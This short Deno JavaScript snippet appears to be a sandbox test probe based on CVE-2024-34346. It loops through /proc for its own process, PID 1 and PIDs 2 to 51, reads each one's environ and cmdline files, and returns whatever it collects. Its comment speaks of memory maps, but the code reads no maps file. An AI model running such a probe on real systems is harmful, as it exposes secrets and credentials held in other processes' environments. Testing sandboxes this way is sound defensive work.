// Tries: the environment and memory maps of another process, in /proc.
// Origin: Deno CVE-2024-34346 (privileged files in /proc).

const found = [];
for (const pid of [input.pid, "self", 1, ...Array.from({ length: 50 }, (_, at) => at + 2)]) {
  for (const name of ["environ", "cmdline"]) {
    try {
      found.push(Deno.readTextFileSync(`/proc/${pid}/${name}`));
    } catch { /* on */ }
  }
}
return found.join();
